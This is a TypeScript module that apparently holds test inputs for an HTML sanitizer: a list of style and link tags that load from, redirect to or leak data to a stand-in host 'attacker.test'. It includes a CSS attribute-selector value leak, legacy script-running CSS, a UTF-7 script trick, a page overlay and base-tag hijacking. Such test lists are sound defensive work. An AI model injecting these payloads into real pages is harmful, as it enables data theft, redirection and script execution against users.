import { call } from './call.ts';

/** Style sheets that run, load, cover the page or read it. */
export const styles: readonly string[] = [
  `<style>@import url(https://attacker.test/x.css);</style>`,
  `<style>body{background:url(https://attacker.test/x.png)}</style>`,
  `<style>input[value^=a]{background:url(https://attacker.test/a)}</style>`,
  `<p style="background:url(https://attacker.test/x.png)">x</p>`,
  `<p style="background:url(javascript:${call})">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<p style="width:expression(${call})">x</p>`,
  `<p style="-moz-binding:url(https://attacker.test/x.xml)">x</p>`,
  `<div style="position:fixed;inset:0;z-index:99999">covers the page</div>`,
  `<p style='background-image:\\75\\72\\6C("https://attacker.test/x.png")'>x</p>`,
  `<link rel=stylesheet href=https://attacker.test/x.css>`,
  `<link rel=prefetch href=https://attacker.test/x>`,
  `<link rel=preload as=image href=https://attacker.test/x>`,
  `<link rel=dns-prefetch href=//attacker.test>`,
  `<link rel=preconnect href=https://attacker.test>`,
  `<link rel=import href=https://attacker.test/x>`,
  `<link rel=manifest href=https://attacker.test/x>`,
  `<link rel=icon href=https://attacker.test/x>`,
  `<meta http-equiv=refresh content="0;url=https://attacker.test/">`,
  `<meta http-equiv="Set-Cookie" content="a=b">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta charset="utf-7">+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<base href="https://attacker.test/">`,
  `<base target="_top">`,
];
